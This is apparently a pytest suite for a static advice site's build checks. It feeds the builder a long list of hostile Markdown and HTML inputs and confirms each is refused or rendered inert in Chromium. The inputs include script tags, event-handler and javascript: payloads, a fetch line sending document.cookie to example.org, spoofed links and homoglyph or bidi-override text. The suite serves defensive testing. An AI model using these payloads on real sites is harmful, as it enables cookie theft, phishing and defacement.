"""Whatever a stranger types, readers get words: HTML, classes and addresses, in pages and in
records, each built for real.

What a build refuses is built once more with the rule's findings set aside and without the page's
security policy, then opened in Chromium: the parser alone must already have made words of it.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from selectolax.lexbor import LexborHTMLParser

from hooks.gate import judgement
from hooks.gate.judgement import Verdict
from hooks.rules import RULES
from hooks.sources import ready, site_records
from hooks.words import markup
from tests import helpers
from tests.browser import chromium
from tests.helpers import DAY, Outcome, Workshop
from tests.serving import serving

FRONT = """---
title: Page {number}
description: A page that a stranger suggested, number {number}.
audience: everyone
owner: Lead adviser
checked: 2026-10-05
review_every: 12 months
---
{body}
"""
SCRIPT = (
    '<script>document.title = "changed"; fetch("https://example.org/?" + document.cookie)</script>'
)
BODIES: dict[str, str] = {
    "script": SCRIPT,
    "script-elsewhere": '<script src="https://example.org/x.js"></script>',
    "fence-never-closed": f"```\ncode\n\n{SCRIPT}",
    "fence-indented": f"  ```\ncode\n\n{SCRIPT}",
    "fence-of-two-kinds": f"~~~\ncode\n```\n{SCRIPT}",
    "fence-in-a-list": f"- item\n\n    ```\n    code\n\n{SCRIPT}",
    "backticks-escaped": f"\\`{SCRIPT}\\`",
    "backticks-of-two-lengths": f"``code` {SCRIPT} `",
    "tag-ends-its-line": "<script\nsrc=https://example.org/x.js></script\n>",
    "tag-over-three-lines": "<img\nsrc=https://example.org/x.png\nonerror=alert(1)>",
    "instruction": "<?php echo 1 ?>",
    "instruction-with-a-tag": f"<?x {SCRIPT} ?>",
    "declaration": f"<!DOCTYPE html>\n{SCRIPT}",
    "character-data": f"<![CDATA[{SCRIPT}]]>",
    "address-that-acts": "<javascript:alert(1)>",
    "comment": "<!-- ask the manager -->",
    "comment-over-lines": "<!--\nask the manager\n-->",
    "comment-never-closed": "Words <!-- and no end",
    "form": (
        '<form action="https://example.org/"><input type="password"'
        ' name="p"><button>Go</button></form>'
    ),
    "form-action": '<form><button formaction="javascript:alert(1)">Go</button></form>',
    "picture-elsewhere": '<img src="https://example.org/x.png" alt="A picture">',
    "stylesheet-elsewhere": '<link rel="stylesheet" href="https://example.org/x.css">',
    "film-elsewhere": '<video src="https://example.org/x.mp4" autoplay></video>',
    "frame": '<iframe src="https://example.org/"></iframe>',
    "frame-with-a-page-inside": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="https://example.org/x.svg"></object>',
    "base": '<base href="https://example.org/">',
    "second-policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "sent-on": '<meta http-equiv="refresh" content="0; url=https://example.org/">',
    "style": "<style>main { display: none }</style>",
    "drawing": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "formula": "<math><mtext><script>alert(1)</script></mtext></math>",
    "template": f"<template>{SCRIPT}</template>",
    "element-of-its-own": "<x-y onclick=alert(1)>z</x-y>",
    "slash-for-a-space": "<img/src=x/onerror=alert(1)>",
    "class-today": '<p class="today">You should appeal.</p>',
    "class-in-braces": "You should wait.\n{: .today }",
    "class-out-of-sight": "You should wait.\n{: .visually-hidden }",
    "class-in-a-heading": "## Part {: .visually-hidden }",
    "class-in-a-line": "Some *words*{: .visually-hidden } here.",
    "class-on-words-in-another-language": "Some [words]{lang=pl}{: .visually-hidden } here.",
    "class-by-a-block": "/// note\n    attrs: {class: today}\n\nWords.\n\n///",
    "handler-in-braces": 'Words.\n{: onclick="alert(1)" }',
    "handler-by-a-block": '/// note\n    attrs: {onclick: "alert(1)"}\n\nWords.\n\n///',
    "handler-on-code": '```{ .text onclick="alert(1)" }\ncode\n```',
    "handler-on-a-picture": '![A logo](assets/logo.svg){: onerror="alert(1)" }',
    "quotes-in-braces": "Words.\n{: data-x='\"><script>alert(1)</script>' }",
    "style-in-braces": 'Words.\n{: style="position:fixed;top:0" }',
    "hidden-in-braces": "Words.\n{: hidden }",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities-by-number": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "tag-in-a-link": f"[{SCRIPT}](contact.md)",
    "tag-in-a-heading": f"## Part {SCRIPT}",
    "tag-in-a-table": f"| A | B |\n|---|---|\n| {SCRIPT} | b |",
    "tag-in-a-quotation": f"> {SCRIPT}",
    "tag-in-alternative-text": "![<b>x</b>](assets/logo.svg)",
    "title-of-a-link": '[Words](contact.md "You should appeal")',
    "language-that-is-none": "[Words]{lang=xx}",
    "language-that-breaks-out": '[Words]{lang=pl"onclick="alert(1)}',
    "block-language-that-is-none": "/// language | english\n\nWords.\n\n///",
    "paragraph-closed-and-article": "</p></div></main><form>",
    "words-turned-round": "Call us \u202eplease\u202c today.",
    "words-turned-round-by-number": "Call us &#8238;please&#8236; today.",
    "nothing-inside-a-word": "You sho\u200buld appeal.",
    "nothing-inside-a-word-by-number": "You sho&#8203;uld appeal.",
    "joiner-inside-an-english-word": "You sho\u200culd appeal.",
    "letters-that-nobody-sees": "We help you.\U000e0041\U000e0042",
    "other-forms-of-a-letter": "We help\ufe01\ufe02 you.",
    "marks-in-a-pile": "We help y" + "\u0336\u035c\u0321" * 20 + "ou.",
    "letter-of-nobody": "We help \ue000 you.",
    "line-that-is-none": "We help\u2028you.",
    "control-by-number": "Words &#27;[31m and &#2;wzxhzdk:0&#3;",
    "block-that-is-none": "/// html | script\n\nalert(1)\n\n///",
    "icon-that-breaks-out": '/// easy | letter"><script>\n\nWords.\n\n///',
    "words-turned-round-in-braces": "Words here.\n{: dir=rtl }",
    "english-as-another-language": "[You must choose]{lang=en} now.",
    "advice-as-code": "```\nYou should appeal.\n```",
    "advice-as-code-by-spaces": "    You should appeal.",
    "letter-of-another-script": "We say [Y\u043eu should appeal]{lang=uk} too.",
    "letter-of-another-script-by-number": "We say [Y&#1086;u should appeal]{lang=uk} too.",
    "letter-of-another-script-in-a-block": (
        "/// language | ru\n\nY\u043eu should \u0430ppeal.\n\n///"
    ),
    "other-script-than-the-language-has": "We say [\u0440\u043e\u0440\u0435]{lang=pl} too.",
    "letters-of-full-width": "We say [\uff39\uff4f\uff55 should appeal]{lang=pl} too.",
    "letters-of-formulas": "We say [\U0001d418\U0001d428\U0001d42e should appeal]{lang=pl} too.",
    "letters-of-phonetics": "We say [\u028f\u1d0f\u1d1c should appeal]{lang=pl} too.",
    "letter-of-another-script-in-a-picture": "![Y\u043eu should appeal](assets/logo.svg)",
    "braces-cut-by-marks": "## Part {: #__proto__ }",
}
"""By what is tried: the words of a page."""
LINKS: dict[str, str] = {
    "javascript": "[Words](javascript:alert(1))",
    "javascript-by-entity": "[Words](&#106;avascript:alert(1))",
    "javascript-with-a-tab": "[Words](java&#9;script:alert(1))",
    "javascript-in-capitals": "[Words](JavaScript:alert(1))",
    "javascript-by-reference": "[Words][x]\n\n[x]: javascript:alert(1)",
    "data": "[Words](data:text/html,x)",
    "vbscript": "[Words](vbscript:x)",
    "other-host-without-scheme": "[Words](//example.org/)",
    "backslashes": "[Words](/\\\\example.org/)",
    "file": "[Words](file:///etc/passwd)",
    "not-secure": "[Words](http://example.org/)",
    "name-before-the-host": "[Words](https://www.gov.uk@example.org/)",
    "letter-with-a-copy": "[Words](mailto:a@example.org?bcc=b@example.org)",
    "picture-elsewhere": "![A picture](https://example.org/x.png)",
    "picture-of-data": "![A picture](data:image/svg+xml,x)",
    "host-in-other-letters": "[the law](https://www.g\u043ev.uk/law)",
    "host-in-other-letters-as-code": "[the law](https://www.xn--gv-lfc.uk/law)",
    "host-that-is-a-number": "[the law](https://1.2.3.4/law)",
    "host-that-is-this-machine": "[the law](https://localhost/law)",
    "host-with-a-port": "[the law](https://www.gov.uk:8443/law)",
    "question-to-the-search": "[Words](search.md?q=Call+0909)",
    "number-that-is-not-shown": "[01632 960001](tel:+44909123456)",
    "letter-to-somebody-else": "[help@larkmere.example.org](mailto:thief@example.org)",
    "code-of-a-telephone": "[Words](tel:*21*0909#)",
    "drawing-with-a-question": "![A logo](assets/logo.svg?x=1)",
    "in-two-lines": "[Words](java\nscript:alert(1))",
    "blob": "[Words](blob:https://example.org/x)",
    "intent": "[Words](intent://x#Intent;end)",
}
"""By what is tried: a link or picture that must not stand on a page."""
FINE: dict[str, str] = {
    "language-of-a-paragraph": "Pomagamy wam.\n{: lang=pl }",
    "less-than": "It takes < 12 weeks, and 5 > 3.",
    "arrow": "First this -> then that.",
    "code": "Never write `<script>` here.",
    "words-in-another-language": "We say [Pomagamy *rodzinom*]{lang=pl} too.",
    "right-to-left": "/// language | ur\n\nہم خاندانوں کی مدد کرتے ہیں۔\n\n///",
    "joiner": "We say [می‌خواهیم]{lang=fa} too.",
    "accents": "Siân and Zoë, São and Łódź, and e\u0301.",
    "script-of-a-language": "We say [مرحبا]{lang=ku-Arab} too.",
    "other-letters": (
        "We say [\u041f\u0440\u0438\u0432\u0456\u0442, EHCP]{lang=uk},"
        " [T\u30b7\u30e3\u30c4]{lang=ja}, [\u0627\u0644SEND]{lang=ar} and [Ti\u1ebfng"
        " Vi\u1ec7t]{lang=vi}."
    ),
    "entities-without-end": "&ltscript>alert(1)&lt/script>",  # shown letter for letter: no tag
    "entity": "Bread&nbsp;and butter &amp; jam.",
    "link": (
        "Read [more about us](about/index.md) or [find your"
        " council](https://www.gov.uk/find-local-council)."
    ),
    "picture": "![The mark of our service](assets/logo.svg)",
}
"""By what it is: words that must not be refused."""
RECORDS: dict[str, tuple[str, str, str]] = {
    "quotation-from": (
        "content/quotations.yml",
        'from: "Larkmere Borough Council',
        'from: "<script>alert(1)</script> Larkmere Borough Council',
    ),
    "quotation-note": (
        "content/quotations.yml",
        'note: "The council',
        'note: "<img src=x onerror=alert(1)> The council',
    ),
    "organisation-entry": (
        "content/organisations/tide-foundation.md",
        "does: Explains the law",
        "does: Explains <b>the law</b>",
    ),
    "organisation-name": (
        "content/organisations/tide-foundation.md",
        "full_name: Tide",
        "full_name: <i>Tide</i> Tide",
    ),
    "organisation-fact": (
        "content/organisations/tide-foundation.md",
        '"1 Example Street',
        '"<u>1 Example Street</u>',
    ),
    "word-explained": ("content/words.md", "means: A paper", "means: <b>A paper</b>"),
    "time-limit": (
        "content/your-options/deadlines.md",
        "counts_from: The date",
        "counts_from: <b>The date</b>",
    ),
    "promise": (
        "content/policies/our-promises.md",
        "promise: We explain every",
        "promise: We explain <b>every</b>",
    ),
    "promise-kept-by-people": (
        "content/policies/our-promises.md",
        "people: The lead adviser",
        "people: <b>The</b> lead adviser",
    ),
    "title": ("content/privacy.md", "title: ", "title: <b>x</b> "),
    "description": (
        "content/privacy.md",
        "description: What",
        "description: <script>alert(1)</script> What",
    ),
    "owner": ("content/privacy.md", "owner: ", "owner: <b>x</b> "),
    "menu": ("mkdocs.yml", "- Words explained: words.md", "- <b>Words</b>: words.md"),
    "menu-turned-round": (
        "mkdocs.yml",
        "- About our service: about",
        '- "Ab\u202eout our service": about',
    ),
    "service": (
        "mkdocs.yml",
        "    name: Larkmere SEND Advice",
        "    name: <b>Larkmere</b> SEND Advice",
    ),
    "leaflet": (
        "content/publicity/leaflet.md",
        "---\n## ",
        "---\n<script>alert(1)</script>\n\n## ",
    ),
}
"""By what is tried: a file, what stands in it, and what a stranger puts there."""
NOTICE = """- from: 2026-11-01
  until: 2026-11-30
  kind: urgent
  title: "{title}"
  words: {words}
  deadline_help: "If you have a deadline, see [the time limits](your-options/deadlines.md)."
"""
NAME = "markup-sound"


def add_pages(made: Workshop, bodies: dict[str, str]) -> dict[str, str]:
    """Writes a page for each case, and its address; gives the file's name by the case."""
    addresses = made.folder / "content" / "addresses.txt"
    files = {}
    for number, (name, body) in enumerate(bodies.items()):
        (made.folder / "content" / f"hostile-{number}.md").write_text(
            FRONT.format(number=number, body=body), encoding="utf-8"
        )
        files[name] = f"hostile-{number}"
    addresses.write_text(
        addresses.read_text(encoding="utf-8") + "".join(f"/{file}/\n" for file in files.values()),
        encoding="utf-8",
    )
    return files


def found_on(outcome: Outcome, path: str, rules: tuple[str, ...] = (NAME,)) -> list[str]:
    return [
        line
        for line in outcome.findings
        if line.startswith(f"{path}:") and line.endswith(tuple(f"({rule})" for rule in rules))
    ]


# --- refused --------------------------------------------------------------------------------------


def test_what_acts_is_refused_on_its_page(workshop: Workshop) -> None:
    """Each body on a page of its own, all in one build; each page's finding names the line that was
    typed."""
    files = add_pages(workshop, BODIES)
    outcome = helpers.build_here(workshop)
    assert outcome.refusal is not None
    for name, file in files.items():
        found = found_on(outcome, f"content/{file}.md")
        assert found, f"{name} was let through: {BODIES[name]!r}"
        assert all(re.match(r"content/[\w.-]+:(?!1:)\d+: ", line) for line in found), (
            f"{name}: no line is named: {found}"
        )


def test_mark_for_contents_is_named_where_it_stands(workshop: Workshop) -> None:
    """Its class, "toc", stands in words of other files, such as "stock"."""
    files = add_pages(workshop, {"contents": "Words.\n\n[TOC]\n\n## Part\n\nWe stock words: toc."})
    (workshop.folder / "content" / "about" / "stock.md").write_text(
        FRONT.format(number="toc", body="We stock words."), encoding="utf-8"
    )
    outcome = helpers.build_here(workshop)
    found = [line for line in outcome.findings if line.endswith(f"({NAME})")]
    assert [True] == [
        re.match(rf'content/{files["contents"]}\.md:\d+: A page must not hold "\[TOC\]"', line)
        is not None
        for line in found
    ], found
    assert ":1: " not in found[0]


def test_address_that_is_none_of_ours_is_refused(workshop: Workshop) -> None:
    files = add_pages(workshop, LINKS)
    outcome = helpers.build_here(workshop)
    assert outcome.refusal is not None
    for name, file in files.items():
        found = found_on(outcome, f"content/{file}.md", (NAME, "links-lead-somewhere"))
        assert found, f"{name} was let through: {LINKS[name]!r}"


@pytest.mark.parametrize("name", RECORDS)
def test_record_is_held_to_the_same(name: str, workshop: Workshop) -> None:
    """The finding names the record's file, not the page that shows it."""
    file, old, new = RECORDS[name]
    path = workshop.path(file)
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{file} does not hold {old!r}"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    outcome = helpers.build_here(workshop)
    assert outcome.refusal is not None
    assert found_on(outcome, file), outcome.findings[:5]


@pytest.mark.parametrize(
    ("title", "words"),
    [
        ("Closed", SCRIPT),
        ("<b>Closed</b>", "Nobody can answer."),
        ("Closed", '"<form action=https://example.org/><input type=password></form>"'),
    ],
)
def test_notice_is_held_to_the_same(title: str, words: str, workshop: Workshop) -> None:
    """On every page that shows it, and named once, in its own file."""
    words = words if words.startswith('"') else "'" + words.replace("'", "''") + "'"
    (workshop.folder / "content" / "notices.yml").write_text(
        NOTICE.format(title=title, words=words), encoding="utf-8"
    )
    outcome = helpers.build_here(workshop)
    assert outcome.refusal is not None
    assert 1 == len(found_on(outcome, "content/notices.yml")), outcome.findings[:5]
    assert not [
        line
        for line in outcome.findings
        if line.endswith(f"({NAME})") and not line.startswith("content/notices.yml")
    ]


def test_settings_cannot_switch_html_on(workshop: Workshop) -> None:
    path = workshop.folder / "mkdocs.yml"
    helpers.edit(
        workshop.path,
        {
            "change": [
                {
                    "file": "mkdocs.yml",
                    "old": "  - attr_list\n",
                    "new": "  - attr_list\n  - md_in_html\n",
                }
            ]
        },
    )
    (workshop.folder / "content" / "privacy.md").write_text(
        FRONT.format(number=1, body='<div markdown="1">Words</div>'), encoding="utf-8"
    )
    for said in (str(ready.faults(path)[0]), helpers.build_here(workshop).findings[0]):
        assert (
            said.startswith("mkdocs.yml:")
            and '"markdown_extensions" must hold only attr_list, hooks.pages.markdown_blocks, tables, toc'
            in said
            and "md_in_html" in said
        )


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        (
            "family: Atkinson Hyperlegible Next",
            'family: "x;}main{display:none}"',
            "extra.identity.typeface.family must be written like",
        ),
        (
            'package: "@fontsource/atkinson-hyperlegible-next"',
            'package: "../../../etc"',
            "extra.identity.typeface.package must be written like",
        ),
        (
            'paper: "#ffffff"',
            'paper: "#fff;}main{display:none}x{"',
            "extra.identity.colours.light.paper must be a colour",
        ),
        (
            "docs_dir: content",
            "docs_dir: content\nextra_templates: [x.html]",
            '"extra_templates" must go',
        ),
        (
            "docs_dir: content",
            "docs_dir: content\nextra_javascript: [https://example.org/x.js]",
            '"extra_javascript" must go',
        ),
        ("plugins: []", "plugins: [search]", '"plugins" must be an empty list'),
    ],
)
def test_settings_put_nothing_into_pages(old: str, new: str, said: str, workshop: Workshop) -> None:
    helpers.edit(workshop.path, {"change": [{"file": "mkdocs.yml", "old": old, "new": new}]})
    outcome = helpers.build_here(workshop)
    assert outcome.refusal is not None and any(said in line for line in outcome.findings), (
        outcome.findings[:3]
    )


def test_words_of_a_picture_are_read(workshop: Workshop) -> None:
    """They are read out to whoever does not see it."""
    (workshop.folder / "content" / "wording.yml").write_text(
        "- words: [You should appeal]\n  why: tells people what to choose\n  instead: Write"
        " more.\n",
        encoding="utf-8",
    )
    files = add_pages(workshop, {"picture": "![You should appeal](assets/logo.svg)"})
    assert found_on(
        helpers.build_here(workshop), f"content/{files['picture']}.md", ("takes-no-side",)
    )


# --- let through ----------------------------------------------------------------------------------


def test_what_is_fine_is_let_through(workshop: Workshop) -> None:
    files = add_pages(workshop, FINE)
    outcome = helpers.build_here(workshop)
    for name, file in files.items():
        assert not found_on(outcome, f"content/{file}.md"), name
    with aside():
        assert helpers.build_here(workshop).refusal is None
    language = LexborHTMLParser(page(workshop, files["words-in-another-language"])).css_first(
        "main span[lang]"
    )
    assert ("pl", None, "Pomagamy rodzinom") == (
        language.attributes["lang"],
        language.attributes.get("dir"),
        language.text(),
    )
    for name, code in (("right-to-left", "ur"), ("script-of-a-language", "ku-Arab")):
        marked = LexborHTMLParser(page(workshop, files[name])).css_first("main [lang]")
        assert (code, "rtl") == (marked.attributes["lang"], marked.attributes["dir"])


def test_words_in_another_language_are_spelt_by_nobody(workshop: Workshop) -> None:
    """But nothing else is let off: whoever marks English as Polish gains nothing."""
    (workshop.folder / "content" / "wording.yml").write_text(
        "- words: [You should appeal]\n  why: tells people what to choose\n  instead: Write"
        " more.\n",
        encoding="utf-8",
    )
    files = add_pages(
        workshop,
        {
            "polish": "We say [Pomagamy rodzinom]{lang=pl} too.",
            "hidden": "[You should appeal.]{lang=pl}",
        },
    )
    outcome = helpers.build_here(workshop)
    assert not found_on(
        outcome,
        f"content/{files['polish']}.md",
        (NAME, "spelling", "plain-words", "words-explained"),
    )
    assert found_on(outcome, f"content/{files['hidden']}.md", ("takes-no-side",))


# --- in a browser ---------------------------------------------------------------------------------


@contextmanager
def aside() -> Iterator[None]:
    """Builds in here are judged by nobody, so that what would be refused can be looked at."""
    judge = judgement.judge
    judgement.judge = lambda site: Verdict((), tuple(rule.name for rule in RULES))
    try:
        yield
    finally:
        judgement.judge = judge


def page(made: Workshop, name: str) -> str:
    return (made.site / name / "index.html").read_text(encoding="utf-8")


def unguarded(site: Path) -> None:
    """Takes the security policy away from a built site: what runs now would run on any host."""
    (site / "_headers").unlink()
    for path in site.rglob("*.html"):
        html = path.read_text(encoding="utf-8")
        path.write_text(
            re.sub(r'<meta http-equiv="?Content-Security-Policy"?[^>]*>', "", html),
            encoding="utf-8",
        )


STRANGE = """() => [...document.querySelectorAll('*')].filter((one) => one.matches(
  'script:not([src]), iframe, object, embed, base, video, audio, math, template, form:not(.find, .comfort, .fill), head ~ * style, meta[content*="//example.org"]')
  || (one.matches('script') && !/\\/assets\\/(first|menu|search|comfort|letter)\\.js$/.test(one.src))
  || [...one.attributes].some(({name}) => name.startsWith('on') || name === 'style')).map((one) => one.outerHTML.slice(0, 200))"""
"""What no page of ours holds, as the browser sees it."""


def test_nothing_runs_and_nothing_is_sent(workshop: Workshop, browser: Any) -> None:
    """Every page of a build that nobody judged, with no policy in force: the parser alone made
    words of it all.

    The script of the test itself shows that the ears are open: it asks another host once, and is
    heard.
    """
    add_pages(workshop, {**BODIES, **LINKS, **FINE})
    (workshop.folder / "content" / "notices.yml").write_text(
        NOTICE.format(title="<b>x</b>", words=f"'{SCRIPT}'"), encoding="utf-8"
    )
    for file, old, new in RECORDS.values():
        path = workshop.path(file)
        path.write_text(path.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")
    with aside():
        outcome = helpers.build_here(workshop)
    assert outcome.refusal is None, outcome.said
    unguarded(workshop.site)
    asked: list[tuple[str, str]] = []
    acted: list[str] = []
    pages = sorted(
        path.relative_to(workshop.site).as_posix() for path in workshop.site.rglob("*.html")
    )
    assert len(pages) > len(BODIES) + len(LINKS) + len(FINE) + len(RECORDS)
    with serving(workshop.site) as address:
        context = browser.new_context()
        context.route(chromium.ELSEWHERE, lambda route: route.abort())
        tab = context.new_page()
        tab.on("request", lambda request: asked.append((request.method, request.url)))
        tab.on("dialog", lambda dialog: (acted.append(dialog.message), dialog.dismiss()))
        for page in pages:
            chromium.show(tab, f"{address}/{page}", workshop.site / page)
            assert [] == tab.evaluate(STRANGE), page
            assert "changed" != tab.title(), page
            # the picture from another host is asked for by Markdown's own mark; the rule refuses it
            # (test above)
            assert {("GET", "https://example.org/x.png")} >= {
                each
                for each in asked
                if each[0] != "GET" or not each[1].startswith((address, "data:"))
            }, page
        tab.evaluate("fetch('https://example.org/heard').catch(() => 0)")
        context.close()
    assert not acted
    assert ("GET", "https://example.org/heard") in asked


# --- the list -------------------------------------------------------------------------------------


EVERYTHING = """First *words*, and [words]{lang=ur} of others.

# One

---

##### Fifth

###### Sixth

/// language | pl

Pomagamy rodzinom.

///

/// language | ur

ہم خاندانوں کی مدد کرتے ہیں۔

///

- An item
    {: promise="E1" }

1. Ring us.

Then wait.

2. Tell us.

Pomagamy rodzinom.
{: lang=pl }

ہم خاندانوں کی مدد کرتے ہیں۔
{: lang=ur }

- Pomagamy.
{: lang=pl }
- ہم خاندانوں کی مدد کرتے ہیں۔
{: lang=ur }

## Pomagamy {: lang=pl }

## ہم خاندانوں {: lang=ur }

### Rodzinom {: lang=pl }

### خاندانوں {: lang=ur }

#### Dzieciom {: lang=pl }

#### کی مدد {: lang=ur }

![The mark of our service](assets/logo.svg)
"""
AUDIT = """tested: 2026-11-01
by: Somebody
tools: [A tool 1.0]
pages: [/]
failures:
  - {page: /, rule: a-rule, says: A thing is wrong, places: 1}
not_tested: [with people]
"""
SHAPES = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 40" width="40" height="40">
<g><circle class="logo-first" cx="1" cy="1" r="1"/><ellipse class="logo-first" cx="1" cy="1" rx="1" ry="2"/>
<g><line class="logo-first" x1="0" y1="0" x2="1" y2="1"/></g></g>
<path class="logo-first" d="M1 1L2 2"/><polygon class="logo-first" points="0,0 1,1"/>
<polyline class="logo-first" points="0,0 1,1"/>
<rect class="logo-first" x="1" y="1" width="1" height="1" rx="1"/>
</svg>
"""
IN_ITS_OWN_COLOURS = SHAPES.replace(' class="logo-first"', "")
TRANSLATED = """---
title: كيف نعمل
description: كيف نعمل ومن يقرر ومن لا يقرر في هذه الخدمة.
audience: everyone
owner: Lead adviser
checked: 2026-10-05
review_every: 12 months
language: ar
translates: about/how-we-work.md
translated: {digest}
---
## لا ننحاز

لا ننحاز إلى أي طرف.

## من نحن

لا ننحاز إلى أي طرف.

## كيف نعمل

لا ننحاز إلى أي طرف.

## من يقرر

لا ننحاز إلى أي طرف.
"""


IN_ARABIC = (
    "    ar: {heading: لا ننحاز إلى أي طرف, statement: لا ننحاز إلى أي طرف., short: لا ننحاز.,"
    " where: سياستنا, sure: confirmed by the service, checked: 2026-10-05}\n"
)


def test_every_line_of_the_list_is_used(
    workshop: Workshop, real_site: Path, workbench_site: Path
) -> None:
    """By the real site, by the made-up one, or by one that has a notice, an audit, a translation, a
    logo of every shape, then one in its own colours, and all that Markdown can do."""
    files = add_pages(workshop, {"everything": EVERYTHING})
    content = workshop.folder / "content"
    original = site_records.read(workshop.folder / "mkdocs.yml", DAY).page("about/how-we-work.md")
    assert original is not None
    (content / "about" / "in-arabic.md").write_text(
        TRANSLATED.format(digest=original.digest), encoding="utf-8"
    )
    with (content / "addresses.txt").open("a", encoding="utf-8") as addresses:
        addresses.write("/about/in-arabic/\n")
    (content / "notices.yml").write_text(
        NOTICE.format(title="Closed", words="Nobody can answer."), encoding="utf-8"
    )
    (content / "audit.yml").write_text(AUDIT, encoding="utf-8")
    (content / "assets" / "logo.svg").write_text(SHAPES, encoding="utf-8")
    helpers.edit(
        workshop.path,
        {
            "change": [
                # an item in a language that runs from right to left
                {
                    "file": "content/policies/impartiality.md",
                    "old": "  short: We take no side. You decide.\n",
                    "new": "  short: We take no side. You decide.\n  languages:\n" + IN_ARABIC,
                },
                {
                    "file": "content/policies/confidentiality.md",
                    "old": "facts:\n",
                    "new": "  languages:\n" + IN_ARABIC + "facts:\n",
                },
                {
                    "file": "content/publicity/poster.md",
                    "old": "format: poster",
                    "new": "format: poster\nlanguage: ar",
                },
                {
                    "file": "content/publicity/poster.md",
                    "old": "## Questions about support at school?\n\nAsk us. Our advice is free.",
                    "new": "## لا ننحاز إلى أي طرف\n\nلا ننحاز إلى أي طرف. {{ contact.phone }}.",
                },
                # a letter to somebody whose address for e-mail is confirmed
                {
                    "file": "content/letters/ask-for-a-meeting.md",
                    "old": "body: council",
                    "new": "body: harbour-advice-trust",
                },
                {
                    "file": "content/organisations/harbour-advice-trust.md",
                    "old": 'sure: seen elsewhere, source: "https://directory',
                    "new": "sure: confirmed by its owner's own page, source: \"https://directory",
                },
            ]
        },
    )
    settings = workshop.folder / "mkdocs.yml"
    settings.write_text(
        settings.read_text(encoding="utf-8")
        + "\nrepo_url: https://example.org/x\nedit_uri: edit/\n",
        encoding="utf-8",
    )
    with aside():
        outcome = helpers.build_here(workshop)
    assert outcome.refusal is None, outcome.said
    used = {thing for site in (workshop.site, real_site, workbench_site) for thing in used_in(site)}
    (content / "assets" / "logo.svg").write_text(IN_ITS_OWN_COLOURS, encoding="utf-8")
    with aside():
        outcome = helpers.build_here(workshop)
    assert outcome.refusal is None, outcome.said
    used |= set(used_in(workshop.site))
    listed = {
        thing
        for several in markup.entries().values()
        for entry in several
        for thing in (entry.where, *((entry.where, name) for name in entry.attributes))
    }
    if not judgement.reasons_against(
        real_site
    ):  # no draft: it does not say that it is one, and counts no time limit that nobody has signed
        listed = {
            thing
            for thing in listed
            if not re.search(
                r"\.draft|deadlines|ready-table|signing|year|form\.clock|span\.badge|to-confirm|section\.section",
                str(thing),
            )
        }
    assert not listed - used, (
        f"Nothing uses these of {markup.LIST.name}: {sorted(map(str, listed - used))}"
    )
    assert files


def used_in(site: Path) -> Iterator[str | tuple[str, str]]:
    """Every line of the list that lets an element of a site stand, and every attribute of that line
    that the element has."""
    for path in site.rglob("*.html"):
        tree = LexborHTMLParser(path.read_text(encoding="utf-8"))
        for element in markup.elements(tree, one_file=path.name == "whole-site.html"):
            entry = markup.listed(element)
            assert entry is not None, f"{path}: {element}"
            yield entry.where
            yield from ((entry.where, name) for name in element.given)


@pytest.mark.parametrize(
    "html",
    [
        "<main class=wrap id=main><p onclick=x>y</p></main>",
        "<main class=wrap id=main><p class=today>y</p></main>",
        "<script>x</script>",
        (
            "<main class=wrap id=main><section class='panel today'"
            " aria-labelledby=x-notice-1></section></main>"
        ),
        "<p><form class='find wide' action=search/></p>",
        "<a href='/\\example.org/'>y</a>",
        "<a href='https://www.gov.uk@example.org/'>y</a>",
        "<link rel=stylesheet href=https://example.org/x.css>",
        "<svg><use href='https://example.org/x.svg#y'></use></svg>",
        "<meta http-equiv=refresh content='0; url=https://example.org/'>",
        "<img src=x.png>",
        "<p lang=xx>y</p>",
        "<script src=//example.org/assets/menu.js></script>",
        "<script src=/../x/assets/menu.js></script>",
    ],
)
def test_list_refuses(html: str) -> None:
    """Straight from the parser, on the layout `page`."""
    assert list(markup.faults(f"<body class=layout-page id=top>{html}"))


def test_list_says_each_thing_once() -> None:
    """Two lines of one name would be one line: the later one takes the place of the other, and
    nobody sees it."""
    names = re.findall(
        r"^  (\S.*?): ?(?:\{.*|)(?:#.*)?$", markup.LIST.read_text(encoding="utf-8"), re.MULTILINE
    )
    assert len(names) > 100
    assert sorted(set(names)) == sorted(names)
